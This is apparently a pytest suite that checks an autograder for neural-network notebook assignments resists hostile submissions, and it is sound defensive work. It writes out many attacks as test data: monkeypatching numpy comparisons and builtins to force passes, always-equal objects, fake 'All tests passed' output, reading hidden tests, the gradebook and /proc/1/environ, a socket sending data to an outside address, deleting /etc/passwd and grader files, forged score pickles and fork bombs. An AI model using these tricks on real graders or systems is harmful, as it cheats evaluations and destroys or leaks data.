"""Hostile submissions: no attack changes a verdict, stalls grading or escapes the sandbox.

Each attack is compared with an *honest* submission that has the same real
behaviour (the same wrong answer, or the same exception) without the attack:
the scores must be identical, task by task. Attacks that do not touch the
answers must leave a correct submission at full marks.
"""

from __future__ import annotations

import functools
import textwrap
from pathlib import Path

import pytest

from .conftest import ROOT, grade_json
from .submissions import build, scores

ZEROS_FORWARD = textwrap.dedent(
    """
    def affine_forward(x, w, b):
        out = np.zeros((x.shape[0], w.shape[1]), dtype=x.dtype)
        return out, (x, w, b)
    """
)
RAISING_FORWARD = "def affine_forward(x, w, b):\n    raise ValueError('not done')\n"


@pytest.fixture(scope="session")
def honest(tmp_path_factory):
    """Scores of the honest twins: a zeros-returning and a raising affine_forward."""

    @functools.cache
    def twin(kind: str) -> dict[str, float]:
        code = {"zeros": ZEROS_FORWARD, "raises": RAISING_FORWARD}[kind]
        folder = tmp_path_factory.mktemp(f"honest-{kind}")
        return scores(grade_json(build(folder, replace={"affine_forward_solution": code})))

    return twin


def attacked(tmp_path: Path, **kwargs) -> dict[str, float]:
    return scores(grade_json(build(tmp_path / "sub", **kwargs)))


# (name, replacement of affine_forward_solution, honest twin)
FUNCTION_ATTACKS = [
    (
        "monkeypatch_numpy_testing",
        textwrap.dedent(
            """
        import numpy as np
        np.allclose = lambda *a, **k: True
        np.isclose = lambda *a, **k: True
        np.array_equal = lambda *a, **k: True
        np.testing.assert_allclose = lambda *a, **k: None
        np.testing.assert_array_equal = lambda *a, **k: None
        """
        )
        + ZEROS_FORWARD,
        "zeros",
    ),
    (
        "monkeypatch_builtins",
        "import builtins\nbuiltins.abs = lambda v: 0\nbuiltins.round = lambda *a: 0\n" + ZEROS_FORWARD,
        "zeros",
    ),
    (
        "ndarray_subclass_always_equal",
        textwrap.dedent(
            """
        class Always(np.ndarray):
            def __eq__(self, other):
                return np.ones(np.shape(other), dtype=bool)
            def __array_finalize__(self, obj):
                pass

        def affine_forward(x, w, b):
            out = np.zeros((x.shape[0], w.shape[1]), dtype=x.dtype).view(Always)
            return out, (x, w, b)
        """
        ),
        "zeros",
    ),
    (
        "object_equal_to_everything",
        textwrap.dedent(
            """
        class Anything:
            def __eq__(self, other):
                return True
            shape = property(lambda self: (0,))

        def affine_forward(x, w, b):
            raise ValueError(str(Anything() == 1))
        """
        ),
        "raises",
    ),
    (
        "prints_all_tests_passed",
        "def affine_forward(x, w, b):\n    print('All tests passed! 100%')\n    raise ValueError('x')\n",
        "raises",
    ),
    (
        "ipython_transformers_and_hooks",
        textwrap.dedent(
            """
        try:
            ip = get_ipython()
            ip.input_transformers_post.append(lambda lines: ['pass\\n'])
            ip.events.register('pre_run_cell', lambda *a: None)
        except NameError:
            pass
        """
        )
        + ZEROS_FORWARD,
        "zeros",
    ),
    (
        "reads_hidden_tests_and_gradebook",
        textwrap.dedent(
            f"""
        def affine_forward(x, w, b):
            for path in [{str(ROOT / "grader_tests" / "test_layers.py")!r}, {str(ROOT / "gradebook.db")!r},
                         {str(ROOT / "source" / "mlp" / "01_layers.ipynb")!r}, '../../gradebook.db',
                         '/proc/1/environ']:
                open(path).read()
            return None
        """
        ),
        "raises",
    ),
    ("sys_exit_inside_function", "import sys\ndef affine_forward(x, w, b):\n    sys.exit(0)\n", "raises"),
    ("os_exit_inside_function", "import os\ndef affine_forward(x, w, b):\n    os._exit(0)\n", "raises"),
    ("sleeps_forever", "import time\ndef affine_forward(x, w, b):\n    time.sleep(10**6)\n", "raises"),
    (
        "ignores_sigint_and_spins",
        textwrap.dedent(
            """
        import signal
        def affine_forward(x, w, b):
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            while True:
                pass
        """
        ),
        "raises",
    ),
    (
        "network_exfiltration",
        textwrap.dedent(
            """
        import socket
        def affine_forward(x, w, b):
            socket.create_connection(('10.0.0.1', 80), timeout=1).sendall(x.tobytes())
            return None
        """
        ),
        "raises",
    ),
]


@pytest.mark.parametrize(("name", "code", "twin"), FUNCTION_ATTACKS, ids=[a[0] for a in FUNCTION_ATTACKS])
def test_attack_scores_exactly_like_its_honest_twin(tmp_path, monkeypatch, honest, name, code, twin):
    monkeypatch.setenv("MLPLAB_CALL_TIMEOUT_S", "2")
    result = attacked(tmp_path, replace={"affine_forward_solution": code})
    assert result == honest(twin), name


# attacks in extra top-level cells; the functions themselves are correct: full marks
CELL_ATTACKS = [
    (
        "writes_and_deletes_outside_scratch",
        textwrap.dedent(
            f"""
        import os, shutil
        for target in [{str(ROOT / "nbgrader_config.py")!r}, '/usr/lib/os-release', '/etc/passwd']:
            try:
                os.remove(target)
            except OSError:
                pass
        shutil.rmtree({str(ROOT / "grader_tests")!r}, ignore_errors=True)
        for target in ['/scratch/../x', '/tmp/results.json', '/scratch/grades.pkl']:
            try:
                open(target, 'w').write('{{"score": 100}}')
            except OSError:
                pass
        """
        ),
    ),
    ("forged_result_pickle", "import pickle\npickle.dump({'score': 999}, open('/scratch/result.pkl', 'wb'))\n"),
    (
        "bounded_fork_loop",
        textwrap.dedent(
            """
        import os, time
        for _ in range(200):
            try:
                if os.fork() == 0:
                    time.sleep(60)
                    os._exit(0)
            except OSError:
                break
        """
        ),
    ),
    ("fifty_gigabyte_allocation", "import numpy as np\nhuge = np.ones(50 * 2**30 // 8)\n"),
    (
        "huge_file",
        "with open('/scratch/big.bin', 'wb') as fh:\n    for _ in range(4096):\n        fh.write(b'0' * 2**20)\n",
    ),
    ("megabytes_of_stdout", "import sys\nfor _ in range(200):\n    sys.stdout.write('All tests passed\\n' * 5000)\n"),
    ("sys_exit_at_the_end", "import sys\nsys.exit(0)\n"),
]


@pytest.mark.parametrize(("name", "code"), CELL_ATTACKS, ids=[a[0] for a in CELL_ATTACKS])
def test_attack_in_an_extra_cell_leaves_a_correct_submission_at_full_marks(tmp_path, name, code):
    guarded = [ROOT / "nbgrader_config.py", ROOT / "grader_tests" / "conftest.py"]
    before = [p.read_bytes() for p in guarded]
    # the attack runs when the solution cell is loaded (before relu_forward is defined); a student
    # who lets it raise only loses their own cell, so it is wrapped to keep the functions
    attack = "def _attack():\n" + textwrap.indent(code, "    ") + "\n"
    attack += "try:\n    _attack()\nexcept BaseException:\n    pass\n"
    result = grade_json(build(tmp_path / "sub", prepend={"relu_forward_solution": attack}))
    info = result["tasks"]
    for task in ("affine_forward", "affine_backward", "relu_forward", "relu_backward", "softmax_loss"):
        assert info[task]["score"] == info[task]["max_score"], (name, task, info[task]["messages"])
    assert [p.read_bytes() for p in guarded] == before
